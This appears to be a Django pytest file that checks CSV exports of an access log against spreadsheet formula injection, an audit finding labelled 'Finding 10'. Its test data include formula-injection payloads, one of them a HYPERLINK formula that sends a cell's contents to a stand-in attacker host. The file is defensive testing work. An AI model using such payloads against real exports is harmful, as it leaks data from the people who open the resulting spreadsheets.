"""Finding 10: every export neutralises caller-typed text that a spreadsheet would run as a formula."""

import csv
import io
from urllib.parse import quote

import pytest
from django.urls import reverse

from provinces.roles import Role
from provinces.spreadsheets import spreadsheet_safe
from tests.api.conftest import client_for
from tests.factories import OrganisationFactory, make_user
from tests.twofactor import sign_in

pytestmark = pytest.mark.django_db

HOSTILE = ["=1+2", '=HYPERLINK("https:evil.example?"&A1,"ver")', "+54 11", "-2+3", "@SUM(A1)", "\tx"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["20-12345678-6", "Núñez", "", "a=b"])
def test_plain_text_is_left_as_typed(text):
    assert spreadsheet_safe(text) == text


def test_access_log_export_neutralises_the_cuil_as_typed(client):
    officer = make_user(Role.PROVINCIAL_OFFICER, OrganisationFactory())
    api = client_for(officer)
    for typed in HOSTILE[:2]:
        api.get(f"/api/v1/status/{quote(typed, safe='')}/")
    auditor = make_user(Role.AUDITOR)
    sign_in(client, auditor)
    response = client.get(reverse("api:statuslookup-export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cuils = sorted(row[2] for row in rows[1:])
    assert cuils[0] == "'=1+2" and cuils[1].startswith("'=HYPERLINK(")  # the log keeps the CUIL's first characters
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # the web page's own export, likewise
    page = client.get(reverse("api_web:access_log")).content.decode()
    assert "?exportar=csv" in page
    response = client.get(reverse("api_web:access_log"), {"exportar": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"))
    cuils = sorted(row[3] for row in rows[1:])
    assert cuils[0] == "'=1+2" and cuils[1].startswith("'=HYPERLINK(")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_access_log_export_neutralises_usernames(client):
    officer = make_user(Role.PROVINCIAL_OFFICER, OrganisationFactory(), username="@SUM(1+1)")
    client_for(officer).get("/api/v1/status/20123456786/")
    sign_in(client, make_user(Role.AUDITOR))
    response = client.get(reverse("api:statuslookup-export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'@SUM(1+1)"
